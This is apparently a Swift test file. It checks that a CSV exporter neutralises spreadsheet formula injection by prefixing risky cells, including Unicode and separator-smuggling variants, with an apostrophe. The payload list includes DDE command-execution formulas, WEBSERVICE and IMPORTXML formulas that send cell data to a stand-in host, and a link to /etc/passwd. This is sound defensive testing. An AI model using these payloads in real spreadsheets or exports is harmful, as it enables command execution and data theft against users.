import Reporting
import Testing

@Suite("Formulas in separated values")
struct FormulaTests {
  static let payloads = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://x.example\";\"y\")", " =1+1", "\u{A0}=1+1", "\u{3000}+1", "\u{2003}-1",
    "\u{200D}=1+1", "\u{200C}=1+1", "\u{200B}=1+1", "\u{FEFF}=1+1", "\u{2060}@x", "\u{AD}=1",
    "=\u{301}1+1", "\u{301}=1+1", "\u{34F}=1", "＝1+1", "＋1", "－1", "＠x", "\u{2212}1", "\u{FE66}1",
    "\"=1+1", "'=1+1", "\u{201C}=1+1", "`=1", "a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1+1",
    "a\",\"=1+1", "a; \u{200D}＝1", ";;-1", "\u{0}=1", " \t@x", "\u{2800}=1", "\u{202E}=1",
    "a\r=1+1", "\"\r\n=1+1", "=1+1\";=2+2;\"", "\u{85}=1", "\u{2028}=1", "\u{B}=1",
    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://x.example/?\"&A1)", "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"file:///etc/passwd\",\"y\")",
    "=IMPORTXML(CONCAT(\"https://x.example/\",A1),\"//a\")",
  ]

  @Test("Forty payloads and more are tried")
  func count() {
    #expect(Set(Self.payloads.map { Array($0.unicodeScalars) }).count >= 40)
  }

  @Test(
    "No text starts a formula, whatever separator the spreadsheet splits at", arguments: payloads)
  func noFormula(_ payload: String) {
    for (exporter, separator) in [(CSVExporter.standard, ","), (.excel, ";" as Unicode.Scalar)] {
      let written = exporter.export(Sample.column([payload]), page: Page())
      let records = SeparatedValues(written, separator: separator).records
      #expect(records.count == 2 && records.allSatisfy { $0.count == 1 })
      let field = records.last?.first ?? ""
      #expect(field.unicodeScalars.contains("'"))
      for part in field.unicodeScalars.split(whereSeparator: {
        ",;\t\r\n".unicodeScalars.contains($0)
      }) {
        let start = part.first { $0 == "'" || Self.isTelling($0) }
        #expect(start.map { !Self.starters.contains($0) } ?? true, "\(part)")
      }
      #expect(written.unicodeScalars.dropFirst("title\r\n".count).contains("\""))
    }
  }

  @Test(
    "The apostrophe stands where the formula's field begins",
    arguments: [
      ("=1", "\"'=1\""), ("\t=1", "\"'\t'=1\""), ("a; =1", "\"a;' =1\""),
      ("+49 113", "\"'+49 113\""),
      ("a\n=1", "\"a\n'=1\""), ("=\"x\"", "\"'=\"\"x\"\"\""),
    ])
  func apostrophe(_ text: String, written: String) {
    let csv = CSVExporter.standard.export(Sample.column([text]), page: Page())
    #expect(Array(csv.utf8) == Array("title\r\n\(written)\r\n".utf8))
  }

  @Test("Numbers are left alone")
  func numbers() {
    let table = Table(columns: [Column(key: "n", kind: .number)], rows: [[-5], [0]])
    for exporter in [CSVExporter.standard, .excel] {
      let csv = exporter.export(Sample.report([.table(table)]), page: Page())
      #expect(csv.hasSuffix("n\r\n-5\r\n0\r\n"))
    }
  }

  @Test("Headers and fields are guarded as well")
  func headers() {
    let table = Sample.report([.table(Table(columns: [Column(key: "=k")]))])
    #expect(CSVExporter.standard.export(table, page: Page()) == "\"'=k\"\r\n")
    let fields = Sample.report([.fields([Field("@l", "-v")])])
    #expect(CSVExporter.standard.export(fields, page: Page()).hasSuffix("\"'@l\",\"'-v\"\r\n"))
  }

  private static let starters = Set("=+-@＝＋－＠\u{2212}\u{FE66}".unicodeScalars)

  private static func isTelling(_ scalar: Unicode.Scalar) -> Bool {
    starters.contains(scalar) || scalar.properties.isAlphabetic
      || scalar.properties.numericType != nil
  }
}
